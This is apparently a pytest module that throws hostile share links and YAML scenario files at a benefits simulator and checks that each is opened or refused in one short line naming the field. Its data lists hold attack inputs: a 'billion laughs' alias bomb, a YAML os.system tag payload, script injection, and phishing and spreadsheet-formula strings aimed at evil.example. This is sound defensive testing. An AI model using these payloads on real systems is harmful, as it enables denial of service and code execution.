"""Hostile input, as an attacker or a broken tool would send it: share links and scenario files.

Whatever comes in, the simulator either opens it or refuses it in one short line naming the field; it never
raises anything else, never hangs, never takes much memory, and never shows an amount that is not finite.

- Share links: more than 10,000 links, generated from nothing and mutated from real ones (hypothesis,
  derandomized so CI sees the same links every run), each decoded and computed.
- Scenario files: several hundred hostile files (alias bombs, deep nesting, huge, binary, byte-order marks,
  wrong types, impossible dates, huge numbers, NaN and infinity, YAML 1.1's base-60 numbers and yes/no),
  each read as an upload (`read_scenario_bytes`) and run through the command line; the bombs again in a
  process whose memory is capped.
"""
from __future__ import annotations

import copy
import functools
import json
import math
import random
import re
import resource
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import parse_qs

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from simulator import cli, simulate
from simulator.boundary import MAX_DEPTH, MAX_FILE_BYTES, read_yaml
from simulator.errors import ScenarioError
from simulator.i18n import LANGUAGES
from simulator.models import MIN_HOURS_PER_WEEK, Scenario, parse_scenario
from simulator.result import MONEY_FIELDS
from simulator.rules import public_paths
from simulator.scenario_files import dump_scenario, load_scenario, read_scenario_bytes
from ui import share, state

ROOT = Path(__file__).resolve().parents[1]
DEFAULT = state.default_scenario()
SECONDS_PER_CASE = 2.0     # any one link or file, read and computed
LONGEST_MESSAGE = 300      # characters of a refusal, whatever the input
LINE_BREAKS = re.compile(r"[\r\n\u2028\u2029\x0b\x0c\x85]")
A_FIELD_AND_A_PROBLEM = re.compile(r"[^\s:][^:]*: \S")   # "household.children: must be …"
FUZZ = settings(deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                       HealthCheck.filter_too_much])


_FINITE: set[str] = set()  # scenarios already computed and found finite (links often decode alike)


def assert_finite_result(scenario: Scenario) -> None:
    """Every amount and ratio of the scenario's result is finite, and its JSON is strict JSON."""
    key = scenario.model_dump_json()
    if key in _FINITE:
        return
    result = simulate(scenario, with_trace=False, with_effects=False)
    for option in result.options:
        for key in MONEY_FIELDS:
            assert math.isfinite(option.lines[key]), (option.name, key, option.lines[key])
        for ratio in (option.participation_tax_rate, option.gain_per_hour):
            assert ratio is None or math.isfinite(ratio), (option.name, ratio)
    json.dumps(result.as_json(), allow_nan=False)
    _FINITE.add(key)


def assert_one_short_line(message: str) -> None:
    assert message and not LINE_BREAKS.search(message), repr(message[:200])
    assert len(message) < LONGEST_MESSAGE, f"{len(message)} characters: {message[:200]!r}"
    assert "Traceback" not in message and "Exceeds the limit" not in message


# --------------------------------------------------------------------------------------------------
# share links

KEYS = ["v", "d", "a", "cp", "c", "ph", "pr", "h", "hc", "m", "k", "cm", "ca", "o", "p", "lang"]
REFORM_KEYS = [f"r.{path}" for path in public_paths()]
HOSTILE_TEXT = [
    "", " ", "0", "1", "-1", "2", "12", "13", "-0", "1e-300", "5e-324", "1e308", "1e309", "nan", "NaN", "inf",
    "-inf", "9" * 400, "-" + "9" * 5000, "1_000", "١٢", " 12 ", "0x10", "1,5", "1.5", "true", "yes", "none",
    "2014-02-30", "2099-99-99", "0001-01-01", "2014-11-01", "month", "14d", "en", "da", "xx",
    "[Click to renew](https://evil.example/phish)", "![t](http://host/track.png)", "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/"&A1,"Details")', "@SUM(1)", "+1", "\x00\x1b[31m\r\n\u2028\u202e",
    "|", "||||", ";;;", ":::::", "x|j:0:1e-300:115:0", "x|j:0:20:5e-324:0", "x|j:0:20:115:" + "9" * 400,
    "x" * 700, "é" * 5000,
]


def random_text(rng: random.Random) -> str:
    """Mostly the hostile texts above; else any short text, a long integer or a float of any size."""
    pick = rng.random()
    if pick < 0.6:
        return rng.choice(HOSTILE_TEXT)
    if pick < 0.8:
        return "".join(chr(rng.choice((rng.randint(0x20, 0x7E), rng.randint(0, 0x2FFF))))
                       for _ in range(rng.randint(0, 20)))
    if pick < 0.9:
        return str(rng.randint(-10**40, 10**40))
    return repr(rng.uniform(-1e6, 1e6) * 10.0 ** rng.randint(-320, 300))


def work_item_text(rng: random.Random) -> str:
    return ":".join(rng.choice((random_text(rng), rng.choice(("j", "pp", "up", "job", "0", "1", "20", "115.38"))))
                    for _ in range(rng.randint(0, 7)))


def link_value(rng: random.Random, key: str) -> str:
    if key != "o":
        return random_text(rng)
    return random_text(rng) + "|" + ";".join(work_item_text(rng) for _ in range(rng.randint(0, 8)))


def generated_link(rng: random.Random) -> dict[str, list[str]]:
    """A link from nothing: known keys, reform keys and any key, each with hostile values, sometimes repeated."""
    link = {}
    for _ in range(rng.randint(0, 25)):
        key = rng.choice((rng.choice(KEYS), rng.choice(REFORM_KEYS), random_text(rng)))
        link[key] = [link_value(rng, key) for _ in range(rng.randint(0, 3))]
    return link


def _real_links() -> list[dict[str, list[str]]]:
    links = []
    for path in sorted((ROOT / "scenarios").glob("*.yaml")):
        scenario = load_scenario(path)
        links.append(parse_qs(share.to_query_string(scenario), keep_blank_values=True))
    return links


REAL_LINKS = _real_links()


def mutated_link(rng: random.Random) -> dict[str, list[str]]:
    """A real link with a few values replaced, cut, repeated or removed, and keys added."""
    link = copy.deepcopy(rng.choice(REAL_LINKS))
    for _ in range(rng.randint(1, 6)):
        key = rng.choice(sorted(link) + KEYS + REFORM_KEYS)
        values = link.get(key) or [""]
        value = values[-1]
        action = rng.choice(("replace", "cut", "repeat", "drop", "add", "splice"))
        if action == "replace":
            link[key] = [link_value(rng, key)]
        elif action == "cut":
            link[key] = [value[:rng.randint(0, len(value))]]
        elif action == "repeat":
            link[key] = values * rng.randint(2, 20)
        elif action == "drop":
            link.pop(key, None)
        elif action == "add":
            link[random_text(rng)] = [random_text(rng)]
        else:  # hostile text inside a real value
            at = rng.randint(0, len(value))
            link[key] = [value[:at] + random_text(rng) + value[at:]]
    return link


def assert_link_opens(link: dict) -> None:
    started = time.perf_counter()
    decoded = share.decode(link, DEFAULT)
    assert isinstance(decoded.scenario, Scenario)
    assert parse_scenario(decoded.scenario.model_dump()) == decoded.scenario
    assert decoded.period in share.PERIODS and decoded.lang in LANGUAGES
    assert len(decoded.ignored) <= share.MAX_IGNORED
    assert len(set(decoded.ignored)) == len(decoded.ignored)
    for line in decoded.ignored:
        assert_one_short_line(line)
    assert_finite_result(decoded.scenario)
    assert time.perf_counter() - started < SECONDS_PER_CASE


def decode_drawn(make_link, examples: int, links_per_example: int, *, shrinkable: bool) -> int:
    """Decode `examples * links_per_example` links made by `make_link` from hypothesis' random draws.

    Shrinkable draws let hypothesis reduce a failing link to its core but cost a draw per choice; the fast
    path seeds an ordinary generator from one draw and makes several links from it (a failure then
    reports the seed). Returns how many links were decoded."""
    count = 0

    @settings(FUZZ, max_examples=examples)
    @given(st.randoms(use_true_random=not shrinkable))
    def check(rng):
        nonlocal count
        for _ in range(links_per_example):
            count += 1
            assert_link_opens(make_link(rng))

    check()
    return count


@pytest.mark.parametrize("make_link", [generated_link, mutated_link], ids=["generated", "mutated"])
def test_thousands_of_links_open_or_are_ignored_field_by_field(make_link):
    assert decode_drawn(make_link, 500, 10, shrinkable=False) >= 5_000


@pytest.mark.parametrize("make_link", [generated_link, mutated_link], ids=["generated", "mutated"])
def test_links_drawn_shrinkably_open_or_are_ignored_field_by_field(make_link):
    assert decode_drawn(make_link, 150, 1, shrinkable=True) >= 150


def test_the_reported_link_attacks():
    """The links of issue 8: a 400-digit number, a key that is a Markdown link, thousands of long keys."""
    decoded = share.decode({"r.allowance.child.max_full": "9" * 400}, DEFAULT)
    assert decoded.scenario.reform == {} and len(decoded.ignored) == 1
    assert "allowance.child.max_full" in decoded.ignored[0]
    decoded = share.decode({f"{'k' * 10_000}{i}": "1" for i in range(2_000)}, DEFAULT)
    assert len(decoded.ignored) <= share.MAX_IGNORED
    assert sum(map(len, decoded.ignored)) < share.MAX_IGNORED * 200
    decoded = share.decode({"o": ["A|j:0:5e-324:115:0", "B|j:0:20:1e-300:0", "C|j:0:20:115:0"]}, DEFAULT)
    assert [o.name for o in decoded.scenario.options] == ["C"]
    assert any("hours" in line and str(MIN_HOURS_PER_WEEK) in line for line in decoded.ignored)


# --------------------------------------------------------------------------------------------------
# scenario files

GOOD_TEXT = (ROOT / "scenarios" / "single-man-2014-commuter.yaml").read_text(encoding="utf-8")
GOOD = yaml.safe_load(GOOD_TEXT)
SLOT = "HOSTILE-VALUE-GOES-HERE"

FIELDS = [
    "schema_version", "title", "date", "household.children", "household.phase", "household.couple",
    "household.procedure", "household.housing", "household.adults.0.months_since_application",
    "household.adults.0.contract_kept", "accommodation_charge.mode", "accommodation_charge.amount_per_month",
    "reform", "reform.allowance.child.max_full", "reform.offset.rate", "reform.offset.deduct_transport",
    "options.0.name", "options.0.work.0.adult", "options.0.work.0.kind", "options.0.work.0.hours_per_week",
    "options.0.work.0.hourly_wage", "options.0.work.0.transport_per_month",
]
VALUES = [  # YAML text, put where a value goes
    "yes", "no", "on", "off", "y", "true", "false", "1:30", "190:20:30", "0x1F", "0o17", "1_000", "+12",
    "9" * 5000, "-" + "9" * 400, "1e400", "-1e400", ".nan", ".inf", "-.inf", "5.0e-324", "1e-300", "-0.0",
    "2014-02-30", "2014-13-45", "0000-00-00", "9999-12-31", "2014-11-01 10:00:00", "~", "", "[]", "{}",
    "[1, 2]", "{a: 1}", "!!binary aGVsbG8=", "!!python/object/apply:os.system ['true']", "!!float 1", "!!str 5",
    "&a 1", "*a", "'" + "x" * 100_000 + "'", '"\\0\\x1b[31m"', '"[x](https://evil.example)"',
    '"=HYPERLINK(1)"', "[" * 60 + "]" * 60, "{a: " * 30 + "1" + "}" * 30,
]


@functools.cache
def with_slot(field: str) -> str:
    """The good file's YAML text with SLOT where `field`'s value goes (creating the key when missing): dumped
    once per field, not once per value (the module builds a thousand files at collection)."""
    data = copy.deepcopy(GOOD)
    if field.startswith("reform."):  # a reform's keys are dotted parameter paths
        data["reform"] = {field.removeprefix("reform."): SLOT}
        return yaml.safe_dump(data, sort_keys=False)
    *parents, last = field.split(".")
    node = data
    for p in parents:
        node = node[int(p)] if p.isdigit() else node.setdefault(p, {})
    node[int(last) if last.isdigit() else last] = SLOT
    return yaml.safe_dump(data, sort_keys=False)


def with_value(field: str, value_text: str) -> bytes:
    """The good file with `field` set to the YAML text `value_text` (creating the key when missing)."""
    return with_slot(field).replace(SLOT, value_text).encode("utf-8")


def bomb(levels: int = 9, where: str = "title") -> bytes:
    """The 'billion laughs': `levels` lists of nine aliases of the level below."""
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]")
    lines.append(f"{where}: *l{levels - 1}")
    return ("\n".join(lines) + "\n").encode()


def whole_files() -> dict[str, bytes]:
    good = GOOD_TEXT.encode("utf-8")
    rng = random.Random(8)
    files = {
        "empty": b"", "a bare word": b"hello\n", "a list": b"- 1\n- 2\n", "null": b"~\n",
        "nine nested aliases in the title": (
            b"title: &a [&b [&c [&d [&e [&f [&g [&h [&i [lol]]]]]]]]]\n"
            b"date: [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"),
        "nesting 5,000 deep (flow)": b"title: " + b"[" * 5000 + b"]" * 5000,
        "nesting 5,000 deep (block)": "".join("  " * i + f"k{i}:\n" for i in range(5000)).encode(),
        f"nesting {MAX_DEPTH + 1} deep": "".join("  " * i + f"k{i}:\n" for i in range(MAX_DEPTH + 1)).encode(),
        "a 5 MB list": b"options:\n" + b"- 1\n" * 1_300_000,
        "one byte too large": b"#" * MAX_FILE_BYTES + b"\n",
        "a 300 kB title": b"title: " + b"x" * 300_000 + b"\n",
        "20,001 values": b"options: [" + b"1," * 20_001 + b"]\n",
        "UTF-8 with a byte-order mark": b"\xef\xbb\xbf" + good,
        "UTF-16": GOOD_TEXT.encode("utf-16"),
        "Latin-1": GOOD_TEXT.replace("Single", "Søren").encode("latin-1"),
        "a NUL byte": good.replace(b"Single", b"\x00ingle"),
        "an escape sequence": good.replace(b"Single", b"\x1b[2JSingle"),
        "a lone surrogate": good.replace(b"Single", b"\xed\xa0\x80Single"),
        "two documents": good + b"\n---\n" + good,
        "tabs for indentation": good.replace(b"  ", b"\t"),
        "a duplicated key": good.replace(b"children: 0", b"children: 0\n  children: 1"),
        "a mapping as a key": b"? {a: 1}\n: 2\n",
        "a merge key": b"base: &b {children: 1}\nhousehold:\n  <<: *b\n",
        "JSON": json.dumps(GOOD, default=str).encode(),
        "JSON with a 5,000-digit number": json.dumps(GOOD, default=str).replace('"children": 0',
                                                                                 '"children": ' + "9" * 5000).encode(),
    }
    for where in ("title", "date", "household", "options", "reform"):
        files[f"alias bomb in {where}"] = bomb(9, where)
    for cut in range(0, len(good), 9):
        files[f"cut at byte {cut}"] = good[:cut]
    for i in range(40):
        files[f"random bytes {i}"] = rng.randbytes(rng.randint(1, 2000))
    for i in range(40):
        edited = bytearray(good)
        for _ in range(rng.randint(1, 8)):
            edited[rng.randrange(len(edited))] = rng.choice(b":-[]{}&*!|>'\"#%@`,? \n\t0123456789")
        files[f"random edits {i}"] = bytes(edited)
    return files


HOSTILE_FILES = {f"{field} = {value[:30]!r}": with_value(field, value) for field in FIELDS for value in VALUES}
HOSTILE_FILES.update(whole_files())


def test_there_are_hundreds_of_hostile_files():
    assert len(HOSTILE_FILES) >= 300


def read_as_upload(data: bytes) -> str | None:
    """Read `data` as an uploaded file; the refusal's message, or None when it was opened (and computed)."""
    started = time.perf_counter()
    try:
        scenario = read_scenario_bytes(data, "upload.yaml")
    except ScenarioError as exc:
        message = str(exc)
        assert_one_short_line(message)
        assert A_FIELD_AND_A_PROBLEM.match(message), message
        return message
    finally:
        assert time.perf_counter() - started < SECONDS_PER_CASE
    assert_finite_result(scenario)
    return None


def test_every_hostile_file_is_opened_or_refused_in_one_line_naming_the_field():
    refused = {name: read_as_upload(data) for name, data in HOSTILE_FILES.items()}
    opened = sorted(name for name, message in refused.items() if message is None)
    # What a strict reader must open: the same file with a BOM, as JSON, as !!str text in the title; and
    # values a field really takes.
    for name in ("UTF-8 with a byte-order mark", "JSON", "title = '!!str 5'", "title = 'yes'", "title = '1:30'"):
        assert name in opened, name
    assert len(opened) < len(HOSTILE_FILES) / 3, opened


@pytest.mark.parametrize("field,value_text,expected", [
    ("household.children", "true", "household.children: must be a whole number"),
    ("household.phase", "yes", "household.phase: must be one of 1, 2, 3"),
    ("household.adults.0.contract_kept", "yes", "household.adults.0.contract_kept: must be true or false"),
    ("options.0.work.0.hours_per_week", "1:30", "options.0.work.0.hours_per_week: must be a number"),
    ("options.0.work.0.hours_per_week", "5.0e-324", "options.0.work.0.hours_per_week: must be 0 or at least"),
    ("options.0.work.0.hourly_wage", "1e-300", "options.0.work.0.hourly_wage: must be 0 or at least"),
    ("date", "2014-02-30", "date: 2014-02-30 is not a real date"),
    ("household.children", "9" * 5000, "household.children: "),
    ("reform.allowance.child.max_full", "9" * 400, "reform.allowance.child.max_full: "),
    ("options.0.work.0.hours_per_week", ".nan", "options.0.work.0.hours_per_week: must be a finite number"),
    ("title", "&a x", "title: YAML anchors and aliases"),
    ("title", "!!python/object/apply:os.system ['true']", "title: YAML tags"),
    ("options.0.name", "'" + "x" * 5_000_000 + "'", "upload.yaml: is "),
])
def test_the_reported_file_attacks_are_refused_by_name(field, value_text, expected):
    message = read_as_upload(with_value(field, value_text))
    assert message is not None and message.startswith(expected), message


def _not_json(constant: str) -> None:
    pytest.fail(f"{constant} in the JSON")  # NaN and Infinity: Python's json reads them, JSON has none


def test_the_command_line_refuses_every_hostile_file_in_one_line(tmp_path, capsys):
    """The same files through `run --json` (in this process, for speed): exit 2 and one line, or exit 0 and
    strict JSON."""
    for i, (name, data) in enumerate(HOSTILE_FILES.items()):
        path = tmp_path / f"{i}.yaml"
        path.write_bytes(data)
        code = cli.main(["run", str(path), "--json"])
        out, err = capsys.readouterr()
        if code == 0:
            json.loads(out, parse_constant=_not_json)
            assert err == "", (name, err)
        else:
            assert code == 2 and out == "", (name, code, err)
            line = err.rstrip("\n")
            assert_one_short_line(line)
            assert A_FIELD_AND_A_PROBLEM.match(line), (name, line)


# --------------------------------------------------------------------------------------------------
# bombs and absurd arguments in a process with its memory capped

MEMORY_CAP = 600 * 2**20  # bytes of address space; the simulator needs about a third of it


def _capped() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def capped_cli(*args, timeout: float = 20) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "simulator", *map(str, args)], cwd=ROOT, capture_output=True,
                          text=True, timeout=timeout, preexec_fn=_capped,
                          env={"PATH": "/usr/bin:/bin", "OPENBLAS_NUM_THREADS": "1"})


def assert_refused_quickly(proc: subprocess.CompletedProcess, started: float, field: str) -> None:
    assert proc.returncode == 2, (proc.returncode, proc.stderr[-500:])
    assert proc.stdout == ""
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{field}: "), lines
    assert time.perf_counter() - started < 10


@pytest.mark.parametrize("command", [("run", "--json"), ("run",), ("sweep", "--csv")], ids=" ".join)
def test_an_alias_bomb_is_refused_at_once_with_little_memory(tmp_path, command):
    path = tmp_path / "bomb.yaml"
    path.write_bytes(bomb(9, "title"))
    started = time.perf_counter()
    assert_refused_quickly(capped_cli(command[0], path, *command[1:]), started, "l0")


def test_an_alias_bomb_as_a_reform_file_is_refused(tmp_path):
    good, reform = tmp_path / "good.yaml", tmp_path / "reform.yaml"
    good.write_text(GOOD_TEXT, encoding="utf-8")
    reform.write_bytes(bomb(9, "reform"))
    started = time.perf_counter()
    assert_refused_quickly(capped_cli("run", good, "--json", "--reform", reform), started, "l0")


def test_the_bombs_are_read_in_a_capped_process():
    """Every bomb, deep nesting and huge file, read in one process with its memory capped."""
    names = [n for n in HOSTILE_FILES if "bomb" in n or "nest" in n or "MB" in n or "large" in n or "aliases" in n]
    script = (
        "import sys, pickle\n"
        "from simulator.scenario_files import read_scenario_bytes\n"
        "from simulator.errors import ScenarioError\n"
        "for data in pickle.load(sys.stdin.buffer):\n"
        "    try:\n"
        "        read_scenario_bytes(data, 'f')\n"
        "    except ScenarioError:\n"
        "        pass\n"
        "print('done')\n"
    )
    import pickle

    proc = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, timeout=30,
                          input=pickle.dumps([HOSTILE_FILES[n] for n in names]), preexec_fn=_capped,
                          env={"PATH": "/usr/bin:/bin", "OPENBLAS_NUM_THREADS": "1"})
    assert proc.returncode == 0 and proc.stdout == b"done\n", proc.stderr[-2000:]
    assert len(names) >= 10


@pytest.mark.parametrize("points", ["1000000000", "-5", "1", "abc", "9" * 5000, "1e3"])
def test_absurd_sweep_points_are_refused(tmp_path, points):
    path = tmp_path / "good.yaml"
    path.write_text(GOOD_TEXT, encoding="utf-8")
    started = time.perf_counter()
    proc = capped_cli("sweep", path, "--csv", f"--points={points}")
    assert_refused_quickly(proc, started, "--points")
    assert len(proc.stderr) < LONGEST_MESSAGE


# --------------------------------------------------------------------------------------------------
# the strict reader still reads every file the project ships, and what it saves


SHIPPED = sorted([*ROOT.glob("scenarios/**/*.yaml"), *ROOT.glob("tests/golden/*.yaml"),
                  ROOT / "ui" / "default_scenario.yaml"])


@pytest.mark.parametrize("path", SHIPPED, ids=lambda p: str(p.relative_to(ROOT)))
def test_every_shipped_file_reads_as_before(path):
    text = path.read_text(encoding="utf-8")
    assert read_yaml(text, path.name) == yaml.safe_load(text)


@pytest.mark.parametrize("name", ["1e5", "yes", "1:30", "2014-02-30", "null", "0x1F", "true", ".inf", "~", "12"])
def test_a_saved_file_reads_back_as_saved(name):
    scenario = parse_scenario({**GOOD, "title": name, "options": [{"name": name, "work": GOOD["options"][0]["work"]}]})
    again = read_scenario_bytes(dump_scenario(scenario).encode("utf-8"), "saved.yaml")
    assert again == scenario
